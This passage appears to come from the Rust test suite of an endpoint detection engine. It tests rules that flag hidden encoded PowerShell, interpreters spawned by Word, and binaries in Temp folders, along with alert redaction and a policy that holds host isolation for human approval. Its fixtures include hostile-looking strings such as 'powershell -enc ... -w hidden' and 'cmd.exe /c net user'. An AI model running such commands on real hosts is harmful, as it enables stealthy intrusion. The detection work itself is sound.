    assert_eq!(found.likelihood, evidence(7_200, 200));
    let hidden = evaluate(
        &process_start("powershell.exe", Some("powershell -enc AAAA -w hidden")),
        &Facts::default(),
    )
    .remove(0);
    assert_eq!(hidden.likelihood, evidence(9_200, 100));
}

#[test]
fn the_second_marker_counts_where_the_first_is_prose() {
    let text = format!("see -enc below: run -enc {}", "QUJD".repeat(10));
    assert!(has_encoded_command(&text));
}

#[test]
fn a_quoted_image_may_hold_spaces() {
    assert_eq!(
        command_image("\"C:\\Program Files\\App\\app.exe\" /quiet"),
        "C:\\Program Files\\App\\app.exe"
    );
    assert_eq!(command_image("C:\\Windows\\cmd.exe /c dir"), "C:\\Windows\\cmd.exe");
    assert_eq!(command_image(&"x".repeat(100)).len(), 80);
    // What stands right behind the closing quote belongs to the token, and the
    // token ends at the next white space.
    assert_eq!(command_image("\"a\"b c"), "a\"b");
    assert_eq!(command_image("\"a\"b c\""), "a\"b");
    assert_eq!(command_image("\"cmd.exe\"/c \"net user x\""), "cmd.exe\"/c");
    assert_eq!(command_image("  \"\"x\"\" y"), "x");
    // A quote that nothing closes opens nothing.
    assert_eq!(command_image("\"C:\\a b"), "C:\\a");
    assert_eq!(command_image("x\" y\""), "x");
    assert_eq!(command_image("\"C:\\a b\""), "C:\\a b");
    assert_eq!(command_image("\"\" y"), "");
    assert_eq!(command_image(" \" "), "");
    assert_eq!(command_image(""), "");
}

#[test]
fn writable_locations_are_known_by_their_markers() {
    assert!(in_writable_location("C:\\Users\\a\\AppData\\Local\\Temp\\x.exe"));
    assert!(in_writable_location("C:\\TEMP\\x.exe"));
    assert!(!in_writable_location("C:\\Windows\\System32\\x.exe"));
}

#[test]
fn the_parent_named_by_the_event_comes_before_the_one_remembered() {
    let mut e = engine();
    let mut event = start(100, 4, "C:\\Windows\\System32\\cmd.exe", None);
    if let EventKind::ProcessStart(start) = &mut event.kind {
        start.parent_image = Some("C:\\Program Files\\winword.exe".into());
    }
    let pending = e.engine.begin(&event);
    assert!(rule_names(&pending.findings).contains(&"interpreter_from_host_app"));
    // And without it the remembered parent is used.
    let mut e = engine();
    e.ingest(&start(7, 4, "C:\\Program Files\\winword.exe", None));
    let pending = e.engine.begin(&start(100, 7, "C:\\Windows\\System32\\cmd.exe", None));
    assert!(rule_names(&pending.findings).contains(&"interpreter_from_host_app"));
}

#[test]
fn an_exit_ends_what_a_process_is_known_for() {
    let mut e = engine();
    e.ingest(&start(7, 4, "C:\\Program Files\\winword.exe", None));
    let exit = event(EventKind::ProcessExit(ProcessExit {
        pid: ProcessId::new(7),
        exit_code: Some(0),
        exited_at: now(),
    }));
    e.ingest(&exit);
    let pending = e.engine.begin(&start(100, 7, "C:\\Windows\\System32\\cmd.exe", None));
    assert!(pending.findings.is_empty());
    assert_eq!(e.trace().events()[1].action, "process_exit");
    assert_eq!(e.trace().events()[1].actor, 1);
}

#[test]
fn an_alert_says_what_it_proposes_and_minimises_what_it_found() {
    let mut e = engine();
    let event = start(
        100,
        4,
        "C:\\Users\\bob\\AppData\\Local\\Temp\\svchost.exe",
        None,
    );
    let alert = e.ingest(&event).expect("strong evidence must alert");
    assert_eq!(alert.id.as_str(), "1");
    assert!(alert.description.starts_with("p=0."), "{}", alert.description);
    assert!(!alert.description.contains("bob"), "{}", alert.description);
    assert_eq!(alert.timestamp, now());
    assert_eq!(alert.host.as_str(), "host-a");
    assert_eq!(alert.severity, Severity::Low);
    assert_eq!(e.audit().entries()[0].verdict, Verdict::Auto);
    assert_eq!(e.engine.autonomy(), AutonomyLevel::Approve);
}

#[test]
fn isolation_is_never_unattended() {
    let mut e = Engine::new(Config::new(HostId::new("host-a").unwrap()));
    let event = start(100, 4, "C:\\a.exe", None);
    let pending = e.begin(&event);
    let certain = Probability {
        bits: 0.999f64.to_bits(),
        text: "0.9990".to_string(),
    };
    let alert = e
        .finish(&event, &pending.findings, Decision::Act, &certain)
        .expect("proposed");
    assert_eq!(
        alert.title,
        "TA0000: isolate host (proposed, awaiting approval)"
    );
    assert_eq!(alert.severity, Severity::Critical);
    assert_eq!(e.audit().entries()[0].verdict, Verdict::RequiresApproval);
    let mut watching = Config::new(HostId::new("host-a").unwrap());
    watching.autonomy = AutonomyLevel::Alert;
    let mut e = Engine::new(watching);
    let pending = e.begin(&event);
    assert!(e
        .finish(&event, &pending.findings, Decision::Act, &certain)
        .is_none());
    assert_eq!(e.metrics().withheld_by_policy, 1);
    // A plain alert is never withheld.
    let likely = Probability {
        bits: 0.5f64.to_bits(),
        text: "0.5000".to_string(),
    };
    assert!(e
        .finish(&event, &pending.findings, Decision::Act, &likely)
        .is_some());
}

#[test]
fn a_firing_keeps_the_pair_it_began_with() {
    let mut m = Metrics::new();
    m.record_finding("a", 5_000, 1_000);
    m.record_finding("a", 6_000, 2_000);
    let firing = m.rule("a").unwrap();
    assert_eq!(firing.firings, 2);
    assert_eq!((firing.hit, firing.miss), (5_000, 1_000));
    assert_eq!(m.rules_fired(), 1);
    assert!(m.rule("b").is_none());
    assert_eq!(m.clone().findings, 2);
}
